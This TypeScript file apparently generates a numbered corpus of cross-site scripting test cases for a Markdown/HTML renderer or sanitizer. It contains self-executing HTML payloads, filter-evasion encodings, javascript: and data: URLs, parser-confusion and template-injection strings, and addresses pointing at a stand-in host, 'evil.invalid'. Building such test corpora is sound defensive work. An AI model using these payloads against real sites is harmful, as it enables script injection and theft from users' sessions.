/** What every case tries to do: leave a mark on the window, or ask another machine for something. */
const ELSEWHERE = 'http://evil.invalid';

type Payload = Readonly<{ script: string; address: string }>;

const payloadOf = (number: number): Payload => ({
  script: `window.hit=${String(number)}`,
  address: `${ELSEWHERE}/${String(number)}`,
});

/** Elements that run something by themselves, as soon as they stand in a document. `§` stands for the script. */
const SELF_STARTING: readonly string[] = [
  '<img src=x onerror="§">',
  '<img srcset=",,x" onerror="§">',
  '<image src=x onerror="§">',
  '<svg onload="§"></svg>',
  '<svg><animate onbegin="§" attributeName=x dur=1s></svg>',
  '<svg><set onend="§" attributeName=y dur=0.01s></svg>',
  '<svg><image href=x onerror="§"></svg>',
  '<svg><script>§</script></svg>',
  '<body onload="§">',
  '<body onpageshow="§">',
  '<video src=x onerror="§"></video>',
  '<video><source onerror="§" src=x></video>',
  '<video onloadstart="§"><source src=x></video>',
  '<audio src=x onerror="§"></audio>',
  '<iframe onload="§"></iframe>',
  '<iframe srcdoc="&lt;script&gt;parent.§&lt;/script&gt;"></iframe>',
  '<object data=x onerror="§"></object>',
  '<embed src=x onerror="§">',
  '<link rel=stylesheet href=x onerror="§">',
  '<style onload="§"></style>',
  '<script>§</script>',
  '<script src=x onerror="§"></script>',
  '<script type=module>§</script>',
  '<details open ontoggle="§">x</details>',
  '<input autofocus onfocus="§">',
  '<select autofocus onfocus="§"></select>',
  '<textarea autofocus onfocus="§"></textarea>',
  '<button autofocus onfocus="§">x</button>',
  '<a autofocus tabindex=1 onfocus="§">x</a>',
  '<x-y tabindex=1 autofocus onfocus="§">x</x-y>',
  '<marquee onstart="§">x</marquee>',
  '<meter value=1 onanimationstart="§" style="animation:a 1s"></meter>',
  '<p style="transition:all 1ms" ontransitionend="§">x</p>',
  '<div contenteditable autofocus onfocus="§">x</div>',
  '<frameset onload="§"></frameset>',
  '<math><maction actiontype="statusline" xlink:href="javascript:§">x</maction></math>',
  '<table background="javascript:§"><tr><td>x</td></tr></table>',
  '<isindex type=image src=x onerror="§">',
  '<dialog open onclose="§">x</dialog>',
  '<template shadowrootmode=open><img src=x onerror="§"></template>',
];

const entities = (text: string, base: 10 | 16): string =>
  Array.from(text)
    .map((sign) => `&#${base === 16 ? 'x' : ''}${(sign.codePointAt(0) ?? 0).toString(base)};`)
    .join('');

/** Ways to write the same element so that a filter that looks for the usual one does not find it. */
const DISGUISES: readonly ((html: string) => string)[] = [
  (html) => html,
  (html) => html.replaceAll(/<\/?[a-z-]+/gu, (tag) => tag.toUpperCase()),
  (html) =>
    html.replaceAll(/[a-z]+/gu, (word) =>
      word.replaceAll(/.(?=.)/gu, (sign, at) => (Number(at) % 2 ? sign : sign.toUpperCase())),
    ),
  (html) => html.replaceAll(' ', '/'),
  (html) => html.replaceAll(' ', '\t'),
  (html) => html.replaceAll(' ', '\n'),
  (html) => html.replaceAll(' ', '\f'),
  (html) => html.replaceAll('"', "'"),
  (html) => html.replaceAll('"', '`'),
  (html) => html.replaceAll('"', ''),
  (html) => html.replaceAll(/"([^"]*)"/gu, (_all, value: string) => `"${entities(value, 10)}"`),
  (html) => html.replaceAll(/"([^"]*)"/gu, (_all, value: string) => `"${entities(value, 16)}"`),
  (html) => html.replace(/>$/u, ''),
  (html) => html.replace('<', '<\u0000'),
  (html) => `">${html}`,
  (html) => `'-->]]>${html}`,
  (html) => html.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (html) => html.replaceAll('<', '&amp;lt;'),
  (html) => encodeURIComponent(html),
  (html) => html.replaceAll('<', '\\u003c').replaceAll('>', '\\x3e'),
  (html) => html.replaceAll('<', '\uFF1C').replaceAll('>', '\uFF1E'),
  (html) => html.replaceAll('<', '+ADw-').replaceAll('>', '+AD4-'),
];

/** Addresses that run or fetch something; `§` the script, `¤` the address of another machine. */
const ADDRESSES: readonly string[] = [
  'javascript:§',
  'JaVaScRiPt:§',
  'java\tscript:§',
  'java&#10;script:§',
  '&#106;avascript:§',
  'javascript&colon;§',
  'javascript\u3000:§',
  '\u0001javascript:§',
  ' javascript:§',
  'javascript://%0a§',
  'data:text/html,<script>§</script>',
  'data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGl0PTE8L3NjcmlwdD4=',
  'data:image/svg+xml,<svg onload="§"/>',
  'vbscript:§',
  'view-source:javascript:§',
  'blob:¤',
  'file:///etc/passwd',
  '¤',
  '//evil.invalid/x',
  '\\\\evil.invalid\\x',
];

/** Places in Markdown and in HTML where an address may stand. */
const ADDRESS_PLACES: readonly ((address: string) => string)[] = [
  (address) => `[click](${address})`,
  (address) => `[click](<${address}> "title")`,
  (address) => `[click][ref]\n\n[ref]: ${address}`,
  (address) => `![picture](${address})`,
  (address) => `[![picture](${address})](${address})`,
  (address) => `<${address}>`,
  (address) => address,
  (address) => `<a href="${address}">click</a>`,
  (address) => `<img src="${address}">`,
  (address) => `<iframe src="${address}"></iframe>`,
  (address) => `<meta http-equiv=refresh content="0;url=${address}">`,
  (address) => `<base href="${address}">`,
  (address) => `<form action="${address}"><button autofocus>x</button></form>`,
  (address) => `<svg><a xlink:href="${address}"><text>x</text></a></svg>`,
  (address) => `<div style="background:url(${address})">x</div>`,
  (address) => `<link rel=stylesheet href="${address}">`,
];

/** Elements whose content a parser reads as text, and another, or the same a second time, as markup. */
const TEXT_HOLDERS = [
  'style',
  'title',
  'textarea',
  'noscript',
  'xmp',
  'noembed',
  'noframes',
  'iframe',
  'plaintext',
  'listing',
];
const FOREIGN = [
  ['svg', 'foreignObject'],
  ['svg', 'desc'],
  ['svg', 'title'],
  ['math', 'mtext'],
  ['math', 'mi'],
  ['math', 'annotation-xml encoding="text/html"'],
] as const;

/** Blocks of Markdown around something. */
const BLOCKS: readonly ((text: string) => string)[] = [
  (text) => `# ${text}`,
  (text) => `> ${text}`,
  (text) => `- ${text}\n  - ${text}`,
  (text) => `| a | ${text.replaceAll('|', '')} |\n|---|---|\n| ${text} | b |`,
  (text) => `\`\`\`html\n${text}\n\`\`\``,
  (text) => `\`\`\`x"onmouseover="${text.replaceAll(/\s/gu, '')}\n1\n\`\`\``,
  (text) => `**${text}** _${text}_ ~~${text}~~`,
  (text) => `\`${text}`,
  (text) => `[${text}](https://example.org)`,
  (text) => `    ${text}`,
  (text) => `<think>${text}</think>`,
  (text) => `$$${text}$$ \\(${text}\\)`,
];

/** For programs that fill templates or evaluate what they print. */
const TEMPLATES = [
  '{{constructor.constructor("§")()}}',
  '${§}',
  '#{§}',
  '<%= § %>',
  '{% raw %}§{% endraw %}',
  '[[§]]',
  '{"__proto__":{"innerHTML":"<img src=x onerror=§>"}}',
  '{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=§>"}}',
  '$t(§)',
  '{{- § -}}',
  '<1>§</1>',
  "';§;//",
  '");§;//',
  '</script><script>§</script>',
  '<!--[if true]><script>§</script><![endif]-->',
  '<![CDATA[<img src=x onerror=§>]]>',
  '<?xml-stylesheet href="javascript:§"?>',
  '<style>@import url(¤);</style>',
  '<style>*{background:url(¤)}</style>',
  '\u202E<img src=x onerror="§">',
];

export type XssCase = Readonly<{ number: number; text: string }>;

/** The mark by which a test knows that the page has shown a case. */
const markOf = (number: number): string => `case-${String(number)}-`;

/** All cases in a fixed order; each carries its number in plain sight. */
export function xssCorpus(): readonly XssCase[] {
  const texts: ((payload: Payload) => string)[] = [];
  const add = (text: string): void =>
    void texts.push(({ script, address }) => text.replaceAll('§', script).replaceAll('¤', address));
  SELF_STARTING.forEach((html, at) => {
    add(html);
    // Each disguise meets many elements, and each element many disguises.
    for (let step = 0; step < 8; step++) {
      const disguise = DISGUISES[(at * 8 + step) % DISGUISES.length];
      if (disguise !== undefined) texts.push(({ script }) => disguise(html.replaceAll('§', script)));
    }
  });
  for (const place of ADDRESS_PLACES) for (const address of ADDRESSES) add(place(address));
  for (const holder of TEXT_HOLDERS) {
    add(`<${holder}><p id="</${holder}><img src=x onerror='§'>">`);
    for (const [outer, inner] of FOREIGN)
      add(
        `<${outer}><${inner}><${holder}><a title="</${holder}><img src=x onerror='§'>"></${holder}></${outer}>`,
      );
  }
  for (const block of BLOCKS) for (const html of SELF_STARTING.slice(0, 10)) add(block(html));
  for (const template of TEMPLATES) add(template);
  return texts.map((make, index) => {
    const number = index + 1;
    return { number, text: `${markOf(number)}\n\n${make(payloadOf(number))}` };
  });
}
